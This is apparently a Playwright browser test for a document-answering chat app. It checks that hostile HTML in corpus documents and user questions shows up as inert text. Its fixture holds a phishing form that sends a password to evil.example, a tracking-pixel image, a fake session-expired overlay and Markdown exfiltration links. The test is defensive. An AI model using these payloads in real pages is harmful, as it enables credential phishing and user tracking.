"""Issue 13, finding 1, in a real browser: corpus and question text are text in the chat pane.

A corpus document carrying a working `<form>` (phishing for the password), an `<img>` web bug, a
full-page `position:fixed` overlay and Markdown image/link syntax is indexed; a question that quotes
it is asked in headless Chromium. Before the fix the form was live and evil.example was contacted as
the answer rendered. Now: no form, no image, no overlay, no request leaves loopback, the hostile
markup is shown as literal text, and the app's own `[n]` marker links and bold framing still work.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest

from tests.support.web import (
    TIMEOUT,
    VIEWPORT,
    chromium,
    clean_settings,
    free_port,
    playwright_or_skip,
    served,
)

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent

sync_api = playwright_or_skip()

EVIL = "evil.example"
HOSTILE_DOC = f"""# 코드 메모

CTO의 React 코드 점검 <form action="https://{EVIL}/steal"><input name="pw" placeholder="비밀번호를 다시 입력하세요"><button>확인</button></form> 다시 로그인하세요.

CTO의 React 코드 팁 <img src="https://{EVIL}/pixel.png"> 을 참고하세요.

CTO의 React 코드 안내 <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">세션이 만료되었습니다</div> 입니다.

CTO의 React 코드 문서 ![pixel](https://{EVIL}/md-pixel.png) 와 [링크](https://{EVIL}/phish) 입니다.
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    from assistant.coach import Coach

    base = tmp_path_factory.mktemp("hostile-ui")
    shutil.copytree(ROOT / "corpus", base / "corpus")
    (base / "corpus" / "notice.md").write_text(HOSTILE_DOC, encoding="utf-8")
    settings = clean_settings(corpus_dir=base / "corpus", index_dir=base / "index", data_dir=base / "data",
                              port=free_port())
    with served(Coach.from_settings(settings), settings) as url:
        yield url


def test_hostile_corpus_html_and_question_html_are_text_in_the_chat(server):
    with chromium(sync_api) as browser:
        ctx = browser.new_context(viewport=VIEWPORT)
        page = ctx.new_page()
        page.set_default_timeout(TIMEOUT)
        outside: list[str] = []

        def watch(route):  # record and block every request that leaves loopback
            host = urlparse(route.request.url).hostname or ""
            if host not in ("127.0.0.1", "localhost"):
                outside.append(route.request.url)
                return route.abort()
            return route.continue_()

        page.route("**/*", watch)
        page.goto(server)
        page.wait_for_selector("#cc-input textarea")
        page.fill("#cc-input textarea", f'React <img src="https://{EVIL}/q.png"> <form action="https://{EVIL}/q"><button>q</button></form>')
        page.keyboard.press("Enter")
        page.wait_for_selector("#cite-1-1", state="attached")
        bot = page.locator("#cc-chat [data-testid='bot']").first
        sync_api.expect(bot.locator("a.cc-ref").first).to_be_visible()
        page.wait_for_timeout(1000)  # let any image request go out
        chat = page.locator("#cc-chat")
        assert chat.locator("form").count() == 0, chat.inner_html()[:2000]
        assert chat.locator("input").count() == 0
        assert chat.locator(f"img[src*='{EVIL}']").count() == 0
        assert chat.locator(f"a[href*='{EVIL}']").count() == 0
        fixed = page.evaluate("""() => [...document.querySelectorAll('#cc-chat *')].filter(
            e => getComputedStyle(e).position === 'fixed').length""")
        assert fixed == 0
        assert not [u for u in outside if EVIL in u], outside
        # The markup is shown as the text it is, and the app's own Markdown still renders.
        sync_api.expect(bot).to_contain_text('<form action="https://evil.example/steal">')
        sync_api.expect(bot).to_contain_text("![pixel](https://evil.example/md-pixel.png)")
        assert bot.locator("strong").count() >= 1  # bold framing
        assert bot.locator("a.cc-ref[href^='#cite-1-']").count() >= 2
        user = page.locator("#cc-chat [data-testid='user']").first
        sync_api.expect(user).to_contain_text(f'<img src="https://{EVIL}/q.png">')
        ctx.close()
